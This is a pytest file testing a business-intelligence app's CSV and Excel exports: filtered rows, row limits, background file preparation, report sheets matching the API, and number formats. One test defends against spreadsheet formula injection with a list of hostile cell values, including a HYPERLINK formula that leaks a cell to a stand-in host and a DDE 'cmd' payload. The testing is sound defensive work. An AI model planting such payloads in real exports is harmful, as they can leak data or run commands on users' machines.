"""Exports: the right rows, streamed CSV, Excel's row limit, and a report that matches the API."""

from __future__ import annotations

import csv
import io
import time

import openpyxl
import pandas as pd
import pytest
from urllib.parse import quote

from bi_app import exports
from data_layer.bootstrap import load_demo_data
from data_layer.demo_data import generate_orders_frame
from data_layer.engine import make_engine
from data_layer.schema import SALES_COLUMNS
from tests.support import net_revenue


@pytest.fixture(scope="module")
def orders() -> pd.DataFrame:
    return generate_orders_frame(2000, seed=42)


def expected_rows(orders: pd.DataFrame) -> pd.DataFrame:
    day = pd.to_datetime(orders["order_date"])
    keep = orders["region"].isin(["West", "South"]) & (day >= "2024-01-01") & orders["category"].eq("Electronics")
    return orders[keep].sort_values("order_id").reset_index(drop=True)


QUERY = "region=West&region=South&start=2024-01-01&category=Electronics"


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_orders_csv_returns_exactly_the_filtered_rows(
    backend: str, orders: pd.DataFrame, client, point_app_at, request: pytest.FixtureRequest, tmp_path
) -> None:
    if backend == "postgresql":
        url = request.getfixturevalue("postgres_schema_url")
        engine = make_engine(url)
        load_demo_data(engine, 2000, 42, replace=True)
        engine.dispose()
        point_app_at(url)
    response = client.get(f"/export/orders.csv?{QUERY}")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.headers["Content-Disposition"] == 'attachment; filename="orders.csv"'
    got = pd.read_csv(io.BytesIO(response.data), dtype={"order_id": str, "customer_id": str})
    expected = expected_rows(orders)
    assert list(got.columns) == list(SALES_COLUMNS)
    assert len(got) == len(expected) > 0
    assert list(got["order_id"]) == list(expected["order_id"])
    for column in ("total_amount", "subtotal", "discount_rate", "quantity", "satisfaction_rating"):
        assert (got[column] - expected[column]).abs().max() < 1e-9, column
    assert list(got["order_date"]) == [d.isoformat() for d in expected["order_date"]]
    first_line = response.data.decode().splitlines()[1]
    assert ",0.00," in first_line or ".00," in first_line or first_line.count(".") >= 6  # cents kept


def test_orders_csv_with_no_match_is_just_the_header(client) -> None:
    response = client.get("/export/orders.csv?start=2030-01-01")
    assert response.status_code == 200
    assert response.data.decode("utf-8-sig").strip() == ",".join(SALES_COLUMNS)


def test_orders_xlsx_has_the_filtered_rows(client, orders: pd.DataFrame) -> None:
    response = client.get(f"/export/orders.xlsx?{QUERY}")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data), read_only=True)["Orders"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == tuple(SALES_COLUMNS)
    expected = expected_rows(orders)
    assert [r[0] for r in rows[1:]] == list(expected["order_id"])
    assert [r[11] for r in rows[1:]] == pytest.approx(list(expected["total_amount"]))
    formatted = openpyxl.load_workbook(io.BytesIO(response.data))["Orders"]
    assert formatted.cell(row=2, column=12).number_format == '"$"#,##0.00;-"$"#,##0.00'  # total_amount
    assert formatted.cell(row=2, column=1).number_format == "General"  # order_id


def test_orders_xlsx_beyond_the_sheet_limit_is_a_clear_refusal(client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "EXCEL_MAX_DATA_ROWS", 1000)
    response = client.get("/export/orders.xlsx")
    assert response.status_code == 422
    error = response.get_json()["error"]
    assert error["code"] == "too_many_rows"
    assert "2,000 orders match" in error["message"] and "/export/orders.csv" in error["message"]


def test_a_large_orders_xlsx_is_prepared_in_the_background_then_offered(client, orders: pd.DataFrame,  # noqa: ANN001
                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """Past XLSX_AT_ONCE_ORDERS the request is answered at once (202) and the file is written in the background:
    the waiting page looks again (wait=1) until it offers the file, which the same address then serves."""
    monkeypatch.setattr(exports, "XLSX_AT_ONCE_ORDERS", 5)
    query = QUERY
    html = {"Accept": "text/html"}
    first = client.get(f"/export/orders.xlsx?{query}", headers=html)
    assert first.status_code == 202
    page = first.data.decode()
    assert "Preparing orders.xlsx" in page and 'http-equiv="refresh"' in page and "wait=1" in page
    api = client.get(f"/export/orders.xlsx?{query}")  # a client without a browser: JSON and Retry-After
    assert api.status_code in (200, 202)
    if api.status_code == 202:
        assert api.get_json()["status"] == "preparing" and int(api.headers["Retry-After"]) > 0
    deadline = time.monotonic() + 120
    while True:
        looked = client.get(f"/export/orders.xlsx?{query}&wait=1", headers=html)
        if looked.status_code == 200:
            break
        assert looked.status_code == 202 and time.monotonic() < deadline, looked.data[:300]
        time.sleep(0.2)
    assert "orders.xlsx is ready" in looked.data.decode() and 'id="page-link"' in looked.data.decode()
    served = client.get(f"/export/orders.xlsx?{query}", headers=html)
    assert served.status_code == 200 and served.headers["Content-Disposition"].startswith("attachment")
    rows = list(openpyxl.load_workbook(io.BytesIO(served.data), read_only=True)["Orders"].iter_rows(values_only=True))
    expected = expected_rows(orders)
    assert rows[0] == tuple(SALES_COLUMNS) and [r[0] for r in rows[1:]] == list(expected["order_id"])
    assert [r[11] for r in rows[1:]] == pytest.approx(list(expected["total_amount"]))


@pytest.mark.parametrize("path", ["orders.csv", "orders.xlsx", "report.xlsx"])
def test_bad_filters_are_a_400_before_any_download(client, path: str) -> None:
    response = client.get(f"/export/{path}?region=Atlantis")
    assert response.status_code == 400
    assert response.get_json()["error"]["parameter"] == "region"


def sheet_table(sheet, first_row: int = 1) -> pd.DataFrame:  # noqa: ANN001
    rows = list(sheet.iter_rows(min_row=first_row, values_only=True))
    end = next((i for i, row in enumerate(rows) if all(v is None for v in row)), len(rows))
    return pd.DataFrame(rows[1:end], columns=rows[0])


def test_report_opens_and_its_sheets_match_the_api(client) -> None:
    query = "region=North&region=East&segment=Premium&segment=Regular"
    response = client.get(f"/export/report.xlsx?{query}")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert book.sheetnames[0] == "Summary"
    assert {"Distribution", "Segments", "Regions", "Products", "Categories", "Trend", "Lifecycle", "Cohorts",
            "Correlations"} <= set(book.sheetnames)
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True) if row and row[0]}
    assert summary["Regions"] == "East, North" and summary["Segments"] == "Premium, Regular"

    def api(name: str):  # noqa: ANN202
        return client.get(f"/api/v1/{name}?{query}").get_json()["data"]

    kpi_rows = list(book["Summary"].iter_rows(values_only=True))
    header = next(i for i, row in enumerate(kpi_rows) if row[0] == "Metric")
    kpis = {row[0]: row[1:6] for row in kpi_rows[header + 1 :] if row[0]}
    answer = api("kpis")
    for name, cells in kpis.items():
        figure = answer[name]
        then = {span: answer["orders"][span] for span in ("previous", "last_year")}  # no orders then: "—"
        expected = (figure["value"],
                    *((figure["previous"], figure["change"]) if then["previous"] else ("—", "—")),
                    *((figure["last_year"], figure["change_last_year"]) if then["last_year"] else ("—", "—")))
        assert cells[0] == pytest.approx(expected[0]) and cells[1:] == pytest.approx(expected[1:]), name
    assert {"revenue", "gross_sales", "returns", "adjustments", "orders"} <= set(kpis)
    assert summary["Same period last year"] == "—"  # the whole span of the data is longer than a year
    month = client.get("/export/report.xlsx?start=2024-03-01&end=2024-03-31")
    rows = {row[0]: row[1] for row in openpyxl.load_workbook(io.BytesIO(month.data))["Summary"].iter_rows(
        values_only=True) if row and row[0]}
    compared = client.get("/api/v1/kpis?start=2024-03-01&end=2024-03-31").get_json()["data"]
    assert rows["Previous period"] == "{start} to {end}".format(**compared["previous_period"]) \
        == "2024-02-01 to 2024-02-29"
    assert rows["Same period last year"] == "{start} to {end}".format(**compared["same_period_last_year"]) \
        == "2023-03-01 to 2023-03-31"
    assert summary["Currency"] == client.get(f"/api/v1/kpis?{query}").get_json()["currency"] == "USD"
    revenue_cell = next(row[1] for row in book["Summary"].iter_rows() if row[0].value == "revenue")
    assert revenue_cell.number_format == '"$"#,##0.00;-"$"#,##0.00'

    for sheet, records in (("Segments", api("segments")), ("Regions", api("regions")),
                           ("Products", api("products")["products"]), ("Correlations", api("correlations"))):
        table = sheet_table(book[sheet])
        expected = pd.DataFrame(records)
        assert list(table.columns) == list(expected.columns), sheet
        pd.testing.assert_frame_equal(table, expected, check_dtype=False, check_exact=False, rtol=1e-12)

    monthly = sheet_table(book["Trend"])
    assert list(monthly["month"]) == [r["month"] for r in api("trend")["monthly"]]
    assert list(monthly["revenue"]) == pytest.approx([r["revenue"] for r in api("trend")["monthly"]])
    lifecycle = dict(sheet_table(book["Lifecycle"]).itertuples(index=False))
    assert lifecycle["churned_customers"] == api("lifecycle")["churned_customers"]
    cohorts = sheet_table(book["Cohorts"])
    first = api("cohorts")[0]
    row = cohorts[cohorts["cohort"] == first["cohort"]].iloc[0]
    assert row[str(first["months_since_first"])] == pytest.approx(first["retention"])


def read_csv(response) -> pd.DataFrame:  # noqa: ANN001
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return pd.read_csv(io.BytesIO(response.data), dtype={"customer_id": str})


def test_customers_export_lists_every_matching_customer_scored(client, orders: pd.DataFrame) -> None:
    csv = read_csv(client.get("/export/customers.csv?segment=Premium&region=North"))
    matching = orders[(orders["customer_segment"] == "Premium") & (orders["region"] == "North")]
    assert sorted(csv["customer_id"]) == sorted(matching["customer_id"].unique())
    spent = net_revenue(matching).groupby(matching["customer_id"]).sum().astype(float)
    assert csv.set_index("customer_id")["total_spent"].to_dict() == pytest.approx(spent.to_dict(), abs=0.005)
    assert csv["cluster_name"].notna().all() and csv["rfm_segment"].notna().all()
    assert csv["churn_probability"].between(0, 1).all()

    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/export/customers.xlsx?segment=Premium&region=North").data))
    assert workbook["Customers"].max_row == len(csv) + 1


def test_target_list_download_has_the_recommendations_rows(client) -> None:
    query = "region=East&vip_top_percent=20"
    numbers = client.get(f"/api/v1/recommendations?{query}").get_json()["data"]["vip"]["numbers"]
    csv = read_csv(client.get(f"/export/targets/vip.csv?{query}"))
    assert len(csv) == numbers["customers"] and numbers["customers"] > 0
    assert csv["total_spent"].sum() == pytest.approx(numbers["revenue"], abs=0.01)
    everyone = read_csv(client.get("/export/customers.csv?region=East"))
    assert csv["total_spent"].min() >= everyone["total_spent"].quantile(0.79)


def test_bad_target_list_requests_are_refused_clearly(client) -> None:
    missing = client.get("/export/targets/coupons.csv")
    assert missing.status_code == 404 and "vip" in missing.get_json()["error"]["message"]
    bad = client.get("/export/targets/vip.csv?vip_top_percent=500")
    assert bad.status_code == 400 and bad.get_json()["error"]["parameter"] == "vip_top_percent"


def test_assumptions_change_the_projection_not_the_numbers(client) -> None:
    default = client.get("/api/v1/recommendations").get_json()["data"]["vip"]
    bolder = client.get("/api/v1/recommendations?vip_uplift_percent=25").get_json()["data"]["vip"]
    assert bolder["numbers"] == default["numbers"]
    revenue = default["numbers"]["revenue"]
    # At most what the VIPs (top 10% by net spend) spent in the last 180 days, from the demo orders.
    orders = generate_orders_frame(2000, seed=42).assign(net=lambda o: net_revenue(o).astype(float))
    spent = orders.groupby("customer_id")["net"].sum().sort_index().sort_values(ascending=False, kind="stable")
    vips = spent.head(-(-len(spent) // 10)).index
    dates = pd.to_datetime(orders["order_date"])
    lately = orders.loc[(dates > dates.max() - pd.Timedelta(days=180)) & orders["customer_id"].isin(vips), "net"].sum()
    assert default["numbers"]["recent_revenue"] == pytest.approx(lately, abs=0.01)
    assert bolder["projection"]["revenue"] == pytest.approx(min(revenue * 0.25, lately), abs=0.01)
    assert default["projection"]["revenue"] == pytest.approx(min(revenue * 0.10, lately), abs=0.01)


HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=1+2", "+cmd|' /C calc'!A0", "@SUM(A1:A2)",
           "-2+3", "=Café – €5"]


def test_hostile_names_are_never_formulas_in_any_download(engine, tmp_path, client, point_app_at) -> None:  # noqa: ANN001
    """Names a spreadsheet would run (OWASP's CSV injection cases) come back as text: string cells in
    every XLSX, a leading apostrophe in every CSV; CSVs start with a UTF-8 byte-order mark."""
    from tests.test_money import run

    path = tmp_path / "hostile.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Order", "Date", "Product", "Qty", "Price", "Customer", "Region", "Category"])
        for i, name in enumerate(HOSTILE * 2):
            writer.writerow([f"O{i}", f"2024-03-{i + 1:02d}", name, 1, f"{10 + i}.50", name,
                             HOSTILE[(i + 1) % len(HOSTILE)], HOSTILE[(i + 2) % len(HOSTILE)]])
    outcome, messages = run(engine, path)
    point_app_at(engine.url.render_as_string(hide_password=False))
    product_filter = "&".join(f"product={quote(name)}" for name in HOSTILE)

    for download in ("orders.xlsx", "customers.xlsx", f"report.xlsx?{product_filter}"):
        response = client.get(f"/export/{download}")
        assert response.status_code == 200, download
        book = openpyxl.load_workbook(io.BytesIO(response.data))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], download
        texts = {c.value for c in cells if isinstance(c.value, str)}
        written = {name for name in HOSTILE if name in texts or any(name in t for t in texts)}
        assert written == set(HOSTILE), (download, set(HOSTILE) - written)

    for table in ("orders", "customers", "products", "categories", "regions", "segments", "rfm", "trend"):
        response = client.get(f"/export/{table}.csv")
        assert response.status_code == 200, table
        assert response.data.startswith(b"\xef\xbb\xbf"), table
        fields = [f for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))) for f in row]
        bare = [f for f in fields if f.startswith(("=", "+", "@", "\t", "\r"))
                or (f.startswith("-") and not is_number(f))]
        assert bare == [], (table, bare)
        if table in ("orders", "products", "regions", "categories"):
            assert {f"'{name}" for name in HOSTILE} <= set(fields), table


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_report_numbers_have_number_formats(client) -> None:
    """Money in the currency, counts whole, shares and changes as percentages (not 25.00 and 0.04)."""
    book = openpyxl.load_workbook(io.BytesIO(client.get("/export/report.xlsx?start=2024-03-01&end=2024-03-31").data))
    summary = {row[0].value: row for row in book["Summary"].iter_rows() if row[0].value}
    assert summary["orders"][1].number_format == summary["customers"][1].number_format == "#,##0"
    assert summary["revenue"][3].number_format == summary["orders"][5].number_format == "0.0%"
    assert summary["average_satisfaction"][1].number_format == "#,##0.00"
    regions = book["Regions"]
    header = [c.value for c in regions[1]]
    first = {name: cell for name, cell in zip(header, regions[2])}
    assert first["customers"].number_format == first["orders"].number_format == "#,##0"
    assert first["customer_share"].number_format == "0.0%"
    assert first["revenue"].number_format == '"$"#,##0.00;-"$"#,##0.00'
    lifecycle = {row[0].value: row[1] for row in book["Lifecycle"].iter_rows(min_row=2)}
    assert lifecycle["repeat_rate"].number_format == "0.0%"
    assert lifecycle["churned_customers"].number_format == "#,##0"
    assert lifecycle["revenue_at_risk"].number_format == '"$"#,##0.00;-"$"#,##0.00'
    distribution = {row[0].value: row[1] for row in book["Distribution"].iter_rows(min_row=2) if row[0].value}
    assert distribution["orders"].number_format == "#,##0"
    assert distribution["median"].number_format == '"$"#,##0.00;-"$"#,##0.00'


def test_a_table_csv_never_writes_negative_zero(client) -> None:  # noqa: ANN001
    text = client.get("/export/regions.csv").get_data(as_text=True)
    rows = text.lstrip("\ufeff").splitlines()
    assert len(rows) > 2 and not any(cell in ("-0.0", "-0") for row in rows for cell in row.split(","))


def test_heavy_downloads_past_the_limit_are_told_busy_at_once(app, client, monkeypatch) -> None:  # noqa: ANN001
    from dataclasses import replace

    from bi_app.busy import heavy_work
    from bi_app.context import CONFIG_KEY

    monkeypatch.setitem(app.server.config, CONFIG_KEY, replace(app.server.config[CONFIG_KEY], heavy_work_limit=1))
    with app.server.test_request_context("/"), heavy_work("downloads"):  # the one slot, taken
        for path in ("/export/customers.csv", "/export/report.xlsx", "/export/orders.xlsx", "/export/targets/vip.csv"):
            busy = client.get(path)
            assert busy.status_code == 503 and busy.headers["Retry-After"] == "30", path
            assert busy.get_json()["error"]["code"] == "busy"
        assert client.get("/export/regions.csv").status_code == 200  # a page's table is light work
    assert client.get("/export/report.xlsx").status_code == 200  # the slot is free again
